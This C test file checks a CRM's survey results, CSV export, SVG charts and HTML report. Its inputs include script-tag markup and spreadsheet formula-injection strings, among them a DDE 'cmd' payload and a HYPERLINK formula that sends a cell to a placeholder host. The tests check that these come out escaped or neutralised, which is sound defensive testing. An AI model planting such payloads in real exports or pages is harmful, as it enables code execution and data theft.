/* tests/survey/test_results.c - survey results and survey export with the
 * real binary on the test PostgreSQL: a launched survey whose targets
 * answered by link, e-mail and text (stored through survey_respond, as
 * every way of answering stores them) and some of whom were skipped at
 * launch (opted out, no e-mail); the counts, shares, mean and median, the
 * breakdown by a field of the targets, every format, the export's rows and
 * columns, the charts (parsed as XML, a bar per option) and the report
 * page; markup in the answers shown as text everywhere; and a survey
 * nobody answered, whose figures are zeros, never NaN. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TEST_FIXTURE
#include "testlib.h"
#include "common/xalloc.h"
#include "crm/db.h"
#include "survey/response.h"
#include "survey/store.h"
#include "example.h"
#include "key.h"

/* A questionnaire with markup in its texts, for the survey nobody answers. */
static const char marked[] = "# 空 <i>x</i>\n"
			     "1. Pick <b>one</b> & go [single]\n"
			     "   A. <script>alert(1)</script>\n"
			     "   B. 二\n"
			     "2. Rate us [rating 1-3]\n"
			     "3. Why? [text]\n"
			     "4. Scale [rating 1-20]\n";

#define SCRIPT "<script>alert('x')</script> & 好"

static struct crm_db *conn;

/* Answer the invitation of target code by way (link, email, sms); fill
 * sets the answers. */
static void respond(const char *code, const char *way, const char *msg_id,
		    void (*fill)(struct survey_answers *a, const struct survey_template *t))
{
	struct err err = ERR_INIT;
	struct survey_invitation inv;
	struct survey_template t;
	struct survey_answers a;
	struct survey_problems p = SURVEY_PROBLEMS_INIT;
	enum survey_outcome o;
	char *sql = xstrfmt("SELECT id FROM crm.survey_invitation WHERE target_code = '%s'", code), *id = NULL;

	assert_ok(crm_db_value(&id, conn, sql, 0, NULL, &err), &err);
	cr_assert(id, "no invitation of %s", code);
	assert_ok(survey_invitation_by_id(&inv, conn, strtoll(id, NULL, 10), &err), &err);
	assert_ok(survey_store_get_id(&t, conn, inv.template_id, &err), &err);
	survey_answers_init(&a, &t);
	fill(&a, &t);
	cr_assert_eq(survey_answers_check(&p, &t, &a), 0, "%s", p.nitems ? p.items[0].msg : "");
	assert_ok(survey_respond(&o, conn, inv.id, way, &t, &a, msg_id, NULL, &err), &err);
	cr_assert_eq(o, SURVEY_STORED, "%s: %s", code, survey_outcome_name(o));
	survey_problems_release(&p);
	survey_answers_release(&a);
	survey_template_release(&t);
	survey_invitation_release(&inv);
	free(sql);
	free(id);
}

static void set(struct survey_answers *a, int n, char **(*field)(struct survey_answer *), const char *v)
{
	survey_answer_set(field(survey_answers_get(a, n)), v, strlen(v));
}

static char **choices(struct survey_answer *x)
{
	return &x->choices;
}
static char **other(struct survey_answer *x)
{
	return &x->other;
}
static char **value(struct survey_answer *x)
{
	return &x->value;
}
static char **text(struct survey_answer *x)
{
	return &x->text;
}

/* E1 by the link: 1 B, 2 A and C (its own text), 3: 4, 4: 100, 5: markup. */
static void e1(struct survey_answers *a, const struct survey_template *t)
{
	(void)t;
	set(a, 1, choices, "B");
	set(a, 2, choices, "AC");
	set(a, 2, other, "云服务; <b>私有</b>");
	set(a, 3, value, "4");
	set(a, 4, value, "100");
	set(a, 5, text, SCRIPT);
}

/* E2 by e-mail: 1 A, 2 B, 3: 5, 5: two lines. */
static void e2(struct survey_answers *a, const struct survey_template *t)
{
	(void)t;
	set(a, 1, choices, "A");
	set(a, 2, choices, "B");
	set(a, 3, value, "5");
	set(a, 5, text, "很好,\n\"继续\"");
}

/* E3 by text: 1 B, 3: 2. */
static void e3(struct survey_answers *a, const struct survey_template *t)
{
	(void)t;
	set(a, 1, choices, "B");
	set(a, 3, value, "2");
}

static void setup(void)
{
	struct err err = ERR_INIT;
	char *sat;

	test_survey_key_set();
	test_fixture_init();
	import("region", "code,name,parent_code\nEAST,华东,\nSH,上海,EAST\nNORTH,华北,\n");
	import("customer", "code,name,region_code\nC1,甲公司,SH\nC2,乙公司,NORTH\n");
	/* E4 opted out and E5 without an address are skipped at launch; E6 never answers */
	import("contact", "code,customer_code,name,email,email_opt_out\n"
			  "E1,C1,张三,zhang@example.test,false\nE2,C1,李四,li@example.test,false\n"
			  "E3,C2,王五,wang@example.test,false\nE4,C2,赵六,zhao@example.test,true\n"
			  "E5,C1,钱七,,false\nE6,C2,孙八,sun@example.test,false\n");
	sat = xstrfmt("%s/sat.txt", dir);
	test_write_file(sat, example);
	cr_assert_eq(crmgate("survey template add 满意度 '%s'", sat), 0, "%s", errout.data);
	test_write_file(sat, marked);
	cr_assert_eq(crmgate("survey template add 标记 '%s'", sat), 0, "%s", errout.data);
	free(sat);
	cr_assert_eq(crmgate("survey create 回访 --template 满意度 --targets contact --channel email"), 0, "%s",
		     errout.data);
	cr_assert_eq(crmgate("survey launch 回访 --yes"), 0, "%s", errout.data);
	cr_assert_eq(crmgate("survey create 空 --template 标记 --targets contact --where \"code = 'E1'\""
			     " --channel email"),
		     0, "%s", errout.data);
	cr_assert_eq(crmgate("survey launch 空 --yes"), 0, "%s", errout.data);
	assert_ok(crm_db_connect(&conn, db, &err), &err);
	respond("E1", "link", NULL, e1);
	respond("E2", "email", "<r2@example.test>", e2);
	respond("E3", "sms", "sms-1", e3);
}

static void teardown(void)
{
	crm_db_free(conn);
	conn = NULL;
	test_fixture_fini();
}

TestSuite(survey_results, .init = setup, .fini = teardown, .timeout = 120);

/* What a python3 expression over the JSON in out (as d) prints. */
static char *json_says(const char *expr)
{
	char *file = xstrfmt("%s/out.json", dir), *py = xstrfmt("%s/say.py", dir), *res = xstrfmt("%s/said", dir);
	char *script = xstrfmt("import json, sys\nd = json.load(open(sys.argv[1]))\nprint(%s)\n", expr), *said;

	test_write_file(file, out.data);
	test_write_file(py, script);
	cr_assert_eq(test_sh("/usr/bin/python3 -I %s %s > %s 2>&1", py, file, res), 0, "%s\n%s", test_slurp(res),
		     out.data);
	said = test_slurp(res);
	said[strcspn(said, "\n")] = '\0';
	free(script);
	free(file);
	free(py);
	free(res);
	return said;
}

static void expect_json(const char *expr, const char *want)
{
	char *said = json_says(expr);
	cr_expect_str_eq(said, want, "%s: %s", expr, said);
	free(said);
}

Test(survey_results, json_counts_shares_mean_and_median)
{
	cr_assert_eq(crmgate("--format json survey results 回访"), 0, "%s", errout.data);
	cr_expect(!strstr(out.data, "NaN"), "%s", out.data);
	expect_json("d['invited'], d['skipped'], d['answered'], d['response_rate']", "4 2 3 0.75");
	expect_json("sorted(d['skipped_by_reason'].items())", "[('no email', 1), ('opted out', 1)]");
	expect_json("d['by_channel']", "{'link': 1, 'email': 1, 'sms': 1}");
	expect_json("[(q['number'], q['type'], q['answered']) for q in d['questions']]",
		    "[(1, 'single', 3), (2, 'multi', 2), (3, 'rating', 3), (4, 'number', 1), (5, 'text', 2)]");
	expect_json(
		"d['questions'][0]['text'], [(o['label'], o['text'], o['count'], o['share'])"
		" for o in d['questions'][0]['options']]",
		"您对我们的产品满意吗？ [('A', '非常满意', 1, 0.3333), ('B', '满意', 2, 0.6667), ('C', '不满意', 0, 0)]");
	/* a multiple choice: shares of those who answered it, adding up to more than 1 */
	expect_json("[(o['label'], o['count'], o['share'], o['other']) for o in d['questions'][1]['options']]",
		    "[('A', 1, 0.5, False), ('B', 1, 0.5, False), ('C', 1, 0.5, True)]");
	expect_json("[(o['label'], o['code'], o['text']) for o in d['questions'][1]['others']]",
		    "[('C', 'E1', '云服务; <b>私有</b>')]");
	expect_json("[d['questions'][2][k] for k in ('mean', 'median', 'min', 'max')]", "[3.67, 4, 2, 5]");
	expect_json("[(p['value'], p['count'], p['share']) for p in d['questions'][2]['distribution']]",
		    "[(1, 0, 0), (2, 1, 0.3333), (3, 0, 0), (4, 1, 0.3333), (5, 1, 0.3333)]");
	expect_json("[d['questions'][3][k] for k in ('mean', 'median')], d['questions'][3]['distribution']",
		    "[100, 100] [{'value': 100, 'count': 1, 'share': 1}]");
	expect_json("[t['text'] for t in d['questions'][4]['texts']]", "[\"" SCRIPT "\", '很好,\\n\"继续\"']");
}

Test(survey_results, by_a_field_of_the_targets)
{
	cr_assert_eq(crmgate("--format json survey results 回访 --by customer.region_code"), 0, "%s", errout.data);
	expect_json("d['by'], d['invited'], [g['value'] for g in d['groups']]",
		    "customer.region_code 4 ['NORTH', 'SH']");
	expect_json("[(g['invited'], g['skipped'], g['answered'], g['response_rate'], g['by_channel']['sms'])"
		    " for g in d['groups']]",
		    "[(2, 1, 1, 0.5, 1), (2, 1, 2, 1, 0)]");
	expect_json("[g['skipped_by_reason'] for g in d['groups']]", "[{'opted out': 1}, {'no email': 1}]");
	expect_json("[[(o['count'], o['share']) for o in g['questions'][0]['options']] for g in d['groups']]",
		    "[[(0, 0), (1, 1), (0, 0)], [(1, 0.5), (1, 0.5), (0, 0)]]");
	expect_json("[(g['questions'][2]['mean'], g['questions'][2]['median']) for g in d['groups']]",
		    "[(2, 2), (4.5, 4.5)]");

	/* a field through another relation, and its name in the tables */
	cr_assert_eq(crmgate("--format csv survey results 回访 --by customer.name --table summary"), 0, "%s",
		     errout.data);
	cr_expect_str_eq(out.data,
			 "group,customer.name,invited,skipped,sent,delivered,failed,answered,response_rate\r\n"
			 "0,,4,2,0,0,0,3,0.75\r\n"
			 "1,乙公司,2,1,0,0,0,1,0.5\r\n"
			 "2,甲公司,2,1,0,0,0,2,1\r\n");
	cr_expect_eq(crmgate("survey results 回访 --by customer.regoin"), 2);
	cr_expect(strstr(errout.data, "unknown field 'regoin'"), "%s", errout.data);
	cr_expect_eq(crmgate("survey results 回访 --by 'code = 1'"), 2);
	cr_expect(strstr(errout.data, "expected the end of the field"), "%s", errout.data);
	cr_expect_eq(crmgate("survey results 没有"), 2);
	cr_expect(strstr(errout.data, "no survey named '没有'"), "%s", errout.data);
}

/* A breakdown by a field named as a figure is ("status" of customers,
 * like the invitations' delivery states) keeps the figures their own. */
Test(survey_results, a_field_named_as_a_figure)
{
	import("customer", "code,name,email,status\nC3,丙公司,c3@example.test,potential\n");
	cr_assert_eq(crmgate("survey create 客户 --template 满意度 --targets customer --where \"code = 'C3'\""
			     " --channel email"),
		     0, "%s", errout.data);
	cr_assert_eq(crmgate("survey launch 客户 --yes"), 0, "%s", errout.data);
	cr_assert_eq(crmgate("--format json survey results 客户 --by status"), 0, "%s", errout.data);
	expect_json("d['by'], sorted(d['delivery']), [(g['value'], g['delivery']) for g in d['groups']]",
		    "status ['queued'] [('potential', {'queued': 1})]");
}

Test(survey_results, csv_and_table)
{
	cr_assert_eq(crmgate("--format csv survey results 回访"), 0, "%s", errout.data);
	static const char head[] = "question,label,text,other,count,share\r\n"
				   "1,A,非常满意,false,1,0.3333\r\n1,B,满意,false,2,0.6667\r\n1,C,不满意,false,0,0\r\n"
				   "2,A,软件,false,1,0.5\r\n";
	cr_expect(!strncmp(out.data, head, strlen(head)), "%s", out.data);
	cr_assert_eq(crmgate("--format csv survey results 回访 --table texts"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data, "question,label,code,text\r\n"
				   "2,C,E1,云服务; <b>私有</b>\r\n"
				   "5,,E1,<script>alert('x')</script> & 好\r\n"
				   "5,,E2,\"很好,\n\"\"继续\"\"\"\r\n");
	cr_expect_eq(crmgate("--format csv survey results 回访 --table nosuch"), 2);

	/* for people: every table, the answers as plain text */
	cr_assert_eq(crmgate("survey results 回访"), 0, "%s", errout.data);
	cr_expect(strstr(out.data, "回访: 客户满意度调查 (contact, running)"), "%s", out.data);
	cr_expect(strstr(out.data, "Written answers 文字回答 (3)"), "%s", out.data);
	cr_expect(strstr(out.data, "<script>alert('x')</script> & 好"), "%s", out.data);
	cr_expect(strstr(out.data, "opted out"), "%s", out.data);
}

/* E6 by the link: words a spreadsheet would run as a formula. */
static void e6(struct survey_answers *a, const struct survey_template *t)
{
	(void)t;
	set(a, 1, choices, "C");
	set(a, 3, value, "1");
	set(a, 5, text, "=HYPERLINK(\"http://x.test/?\"&B2,\"看\")");
}

/* A respondent's words are never a formula in the export Excel opens;
 * numbers stay numbers. */
Test(survey_results, the_export_runs_no_formula)
{
	char *csv;

	respond("E6", "link", NULL, e6);
	cr_assert_eq(crmgate("survey export 回访"), 0, "%s", errout.data);
	csv = strstr(out.data, "\r\nE6,");
	cr_assert(csv, "%s", out.data);
	cr_expect(strstr(csv, ",不满意,,1,,\"'=HYPERLINK(\"\"http://x.test/?\"\"&B2,\"\"看\"\")\"\r\n"), "%s", csv);
}

/* A questionnaire whose question and option texts start as formulas do. */
static const char formulas[] = "# 公式\n"
			       "1. =1+1 选哪个？ [single]\n"
			       "   A. -1 以下\n"
			       "   B. +1 以上\n"
			       "   C. @其他 [other]\n"
			       "2. 差多少 [number, min -10, max 10]\n"
			       "3. 建议 [text]\n";

/* What each of F1…F5 writes: a formula starting with = + - @ or a tab,
 * as a free text and as the text of "other"; F1 gives a negative number. */
static const char *const typed[][2] = {
	{ "F1", "=HYPERLINK(\"http://x.test/\",\"看\")" },
	{ "F2", "+1+cmd|' /C calc'!A0" },
	{ "F3", "-2+3" },
	{ "F4", "@SUM(1+1)" },
	{ "F5", "\t=1" },
};
static int answering; /* the row of typed[] respond() fills in */

static void f_all(struct survey_answers *a, const struct survey_template *t)
{
	(void)t;
	set(a, 1, choices, "C");
	set(a, 1, other, typed[answering][1]);
	set(a, 2, value, answering ? "5" : "-3");
	set(a, 3, text, typed[answering][1]);
}

/* A cell as the export's guard writes it: a ' before a formula, quoted. */
static char *guarded(const char *v)
{
	struct buf b = BUF_INIT;
	int quote = strpbrk(v, ",\"\r\n") != NULL;

	buf_adds(&b, quote ? "\"'" : "'");
	for (const char *p = v; *p; p++) {
		if (*p == '"')
			buf_addch(&b, '"');
		buf_addch(&b, *p);
	}
	buf_adds(&b, quote ? "\"" : "");
	return buf_detach(&b, NULL);
}

/* Every table of survey results that shows words from outside (the
 * respondents' texts, the targets' names, the questionnaire's texts)
 * writes them in CSV as the export does, never as a formula a spreadsheet
 * runs; counts, shares, means and negative numbers stay numbers. */
Test(survey_results, the_results_run_no_formula)
{
	char *sat = xstrfmt("%s/formulas.txt", dir);

	test_write_file(sat, formulas);
	cr_assert_eq(crmgate("survey template add 公式表 '%s'", sat), 0, "%s", errout.data);
	free(sat);
	import("customer", "code,name\nC9,=公司\n");
	import("contact", "code,customer_code,name,email\n"
			  "F1,C9,=甲,f1@example.test\nF2,C9,+乙,f2@example.test\nF3,C9,-丙,f3@example.test\n"
			  "F4,C9,@丁,f4@example.test\nF5,C9,戊,f5@example.test\n");
	cr_assert_eq(crmgate("survey create 公式 --template 公式表 --targets contact --where \"customer.code = 'C9'\""
			     " --channel email"),
		     0, "%s", errout.data);
	cr_assert_eq(crmgate("survey launch 公式 --yes"), 0, "%s", errout.data);
	for (answering = 0; answering < (int)(sizeof(typed) / sizeof(typed[0])); answering++)
		respond(typed[answering][0], "link", NULL, f_all);

	/* the texts: each free text and "other" text, guarded */
	cr_assert_eq(crmgate("survey export 公式"), 0, "%s", errout.data);
	char *export = xstrdup(out.data);
	cr_assert_eq(crmgate("--format csv survey results 公式 --table texts"), 0, "%s", errout.data);
	for (size_t i = 0; i < sizeof(typed) / sizeof(typed[0]); i++) {
		char *cell = guarded(typed[i][1]);
		char *other = xstrfmt("\r\n1,C,%s,%s\r\n", typed[i][0], cell);
		char *text = xstrfmt("\r\n3,,%s,%s\r\n", typed[i][0], cell);
		char *in_export = xstrfmt(",%s\r\n", cell);
		cr_expect(strstr(out.data, other), "want %s in:\n%s", other, out.data);
		cr_expect(strstr(out.data, text), "want %s in:\n%s", text, out.data);
		/* exactly as the export writes the same words */
		cr_expect(strstr(export, in_export), "want %s in:\n%s", in_export, export);
		free(in_export);
		free(text);
		free(other);
		free(cell);
	}
	/* the questionnaire's texts; the counts and shares plain numbers */
	cr_assert_eq(crmgate("--format csv survey results 公式 --table options"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data, "question,label,text,other,count,share\r\n"
				   "1,A,'-1 以下,false,0,0\r\n"
				   "1,B,'+1 以上,false,0,0\r\n"
				   "1,C,'@其他,true,5,1\r\n");
	cr_assert_eq(crmgate("--format csv survey results 公式 --table questions"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data, "question,type,text,answered,mean,median,min,max\r\n"
				   "1,single,'=1+1 选哪个？,5,,,,\r\n"
				   "2,number,差多少,5,3.4,5,-3,5\r\n"
				   "3,text,建议,5,,,,\r\n");
	/* a negative number given is a number */
	cr_assert_eq(crmgate("--format csv survey results 公式 --table distribution"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data, "question,value,count,share\r\n2,-3,1,0.2\r\n2,5,4,0.8\r\n");
	/* a breakdown by the targets' names: each formula guarded, a plain name plain */
	cr_assert_eq(crmgate("--format csv survey results 公式 --by name --table channels"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data, "group,name,way,answered\r\n"
				   "0,,link,5\r\n0,,email,0\r\n0,,sms,0\r\n"
				   "1,'+乙,link,1\r\n1,'+乙,email,0\r\n1,'+乙,sms,0\r\n"
				   "2,'-丙,link,1\r\n2,'-丙,email,0\r\n2,'-丙,sms,0\r\n"
				   "3,'=甲,link,1\r\n3,'=甲,email,0\r\n3,'=甲,sms,0\r\n"
				   "4,'@丁,link,1\r\n4,'@丁,email,0\r\n4,'@丁,sms,0\r\n"
				   "5,戊,link,1\r\n5,戊,email,0\r\n5,戊,sms,0\r\n");
	cr_assert_eq(crmgate("--format csv survey results 公式 --by customer.name --table summary"), 0, "%s",
		     errout.data);
	cr_expect_str_eq(out.data,
			 "group,customer.name,invited,skipped,sent,delivered,failed,answered,response_rate\r\n"
			 "0,,5,0,0,0,0,5,1\r\n"
			 "1,'=公司,5,0,0,0,0,5,1\r\n");
	/* the export: the names, the option chosen and the texts guarded, the number not */
	cr_expect(strstr(export, "\r\nF1,'=甲,link,"), "%s", export);
	cr_expect(strstr(export, ",\"'@其他: =HYPERLINK(\"\"http://x.test/\"\",\"\"看\"\")\",-3,"), "%s", export);
	free(export);
}

Test(survey_results, export_one_row_per_respondent)
{
	char *file = xstrfmt("%s/export.csv", dir), *csv;

	cr_assert_eq(crmgate("survey export 回访 -o %s", file), 0, "%s", errout.data);
	csv = test_slurp(file);
	/* the time each was answered varies: cut it out */
	for (char *p = csv; (p = strstr(p, ",20")); p++)
		memmove(p + 1, p + 20, strlen(p + 20) + 1);
	cr_expect_str_eq(csv,
			 "code,name,channel,answered_at,1. 您对我们的产品满意吗？,2. 您使用了哪些产品？,"
			 "3. 请为我们的服务打分,4. 您每年的采购预算（万元）,5. 您还有什么建议？\r\n"
			 "E1,张三,link,,满意,软件;其他: 云服务; <b>私有</b>,4,100,<script>alert('x')</script> & 好\r\n"
			 "E2,李四,email,,非常满意,硬件,5,,\"很好,\n\"\"继续\"\"\"\r\n"
			 "E3,王五,sms,,满意,,2,,\r\n");
	free(csv);
	/* to the standard output as well, every row a response */
	cr_assert_eq(crmgate("survey export 回访"), 0, "%s", errout.data);
	cr_expect(!strncmp(out.data, "code,name,channel,answered_at,1. ", 33), "%s", out.data);
	cr_expect(strstr(out.data, "\r\nE3,王五,sms,20"), "%s", out.data);
	cr_expect_eq(crmgate("survey export 没有"), 2);
	free(file);
}

/* How many times needle is in s. */
static int occurrences(const char *s, const char *needle)
{
	int n = 0;
	for (const char *p = s; (p = strstr(p, needle)); p += strlen(needle))
		n++;
	return n;
}

Test(survey_results, a_chart_per_question)
{
	static const struct {
		const char *file;
		int bars;
		const char *has;
	} charts[] = {
		{ "回访/q1.svg", 3, "B. 满意" },
		{ "回访/q2.svg", 3, "C. 其他" },
		{ "回访/q3.svg", 5, "1 · 33%" },
		{ "回访/q4.svg", 1, "100" },
		{ "空/q1.svg", 2, "A. <script>alert(1)</sc" },
		{ "空/q2.svg", 3, "Rate us" },
		/* more than a chart has room for, and it says so */
		{ "空/q4.svg", 15, "4. Scale (the first 15 of 20)" },
	};

	/* the folder is made, not its parents */
	cr_expect_eq(crmgate("survey results 回访 --svg %s/no/回访", dir), 1);
	cr_expect(strstr(errout.data, "could not make the folder"), "%s", errout.data);
	test_sh("mkdir %s/空", dir);
	cr_assert_eq(crmgate("-q survey results 回访 --svg %s/回访", dir), 0, "%s", errout.data);
	cr_assert_eq(crmgate("-q survey results 空 --svg %s/空", dir), 0, "%s", errout.data);
	for (size_t i = 0; i < sizeof(charts) / sizeof(charts[0]); i++) {
		char *path = xstrfmt("%s/%s", dir, charts[i].file), *svg = test_slurp(path);
		char *t = test_xml_text(svg, strlen(svg), path);
		/* the background, then one bar each */
		cr_expect_eq(occurrences(svg, "<rect"), 1 + charts[i].bars, "%s:\n%s", path, svg);
		cr_expect(strstr(t, charts[i].has), "%s: %s", path, t);
		free(t);
		free(svg);
		free(path);
	}
	/* free text has no chart; markup is text in the picture */
	cr_expect_neq(test_sh("test -e %s/回访/q5.svg", dir), 0);
	char *svg = xstrfmt("%s/空/q1.svg", dir), *pic = test_slurp(svg);
	cr_expect(strstr(pic, "&lt;script&gt;") && !strstr(pic, "<script"), "%s", pic);
	cr_expect(strstr(pic, "Pick &lt;b&gt;one&lt;/b&gt; &amp; go"), "%s", pic);
	free(pic);
	free(svg);
}

Test(survey_results, nobody_answered_gives_zeros)
{
	cr_assert_eq(crmgate("--format json survey results 空"), 0, "%s", errout.data);
	cr_expect(!strstr(out.data, "NaN") && !strstr(out.data, "nan"), "%s", out.data);
	expect_json("d['invited'], d['answered'], d['response_rate'], d['by_channel']",
		    "1 0 0 {'link': 0, 'email': 0, 'sms': 0}");
	expect_json("[[(o['count'], o['share']) for o in q['options']] for q in d['questions'] if 'options' in q]",
		    "[[(0, 0), (0, 0)]]");
	expect_json("[(q['answered'], q.get('mean'), q.get('median')) for q in d['questions']]",
		    "[(0, None, None), (0, None, None), (0, None, None), (0, None, None)]");
	expect_json("[(p['value'], p['count'], p['share']) for p in d['questions'][1]['distribution']]",
		    "[(1, 0, 0), (2, 0, 0), (3, 0, 0)]");
	cr_assert_eq(crmgate("survey export 空"), 0, "%s", errout.data);
	cr_expect_str_eq(out.data,
			 "code,name,channel,answered_at,1. Pick <b>one</b> & go,2. Rate us,3. Why?,4. Scale\r\n");
}

Test(survey_results, the_report_page_shows_them_escaped)
{
	char *page = xstrfmt("%s/report.html", dir), *html, *t;

	cr_assert_eq(crmgate("-q report html --out %s", page), 0, "%s", errout.data);
	html = test_slurp(page);
	t = test_xml_text(html, strlen(html), page);
	cr_expect(strstr(html, "<a href=\"#survey-1\">回访</a><a href=\"#survey-2\">空</a>"), "%s", html);
	cr_expect(strstr(html, "<section id=\"survey-1\">"), "%s", html);
	cr_expect(strstr(t, "Survey 调查: 回访 — 客户满意度调查 (running)"), "%s", t);
	cr_expect(strstr(t, SCRIPT), "the answer is there as text: %s", t);
	cr_expect(strstr(html, "&lt;script&gt;alert('x')&lt;/script&gt; &amp; 好") ||
			  strstr(html, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; 好"),
		  "%s", html);
	cr_expect(!strstr(html, "<script"), "no markup of a respondent's gets through");
	/* each question's chart, in the section */
	cr_expect(strstr(t, "3. 请为我们的服务打分"), "%s", t);
	cr_expect_eq(occurrences(html, "<svg"), occurrences(html, "</svg>"));
	free(html);
	free(t);

	/* one survey named; a draft is shown when named, none that is unknown */
	cr_assert_eq(crmgate("-q report html --out %s --survey 空", page), 0, "%s", errout.data);
	html = test_slurp(page);
	cr_expect(strstr(html, "#survey-1\">空</a>") && !strstr(html, ">回访</a>"), "%s", html);
	free(html);
	cr_expect_eq(crmgate("-q report html --out %s --survey 没有", page), 2);
	cr_expect(strstr(errout.data, "no survey named '没有'"), "%s", errout.data);
	cr_expect_eq(crmgate("-q report funnel --survey 空"), 2);
	cr_expect(strstr(errout.data, "--survey is for report html"), "%s", errout.data);
	free(page);
}
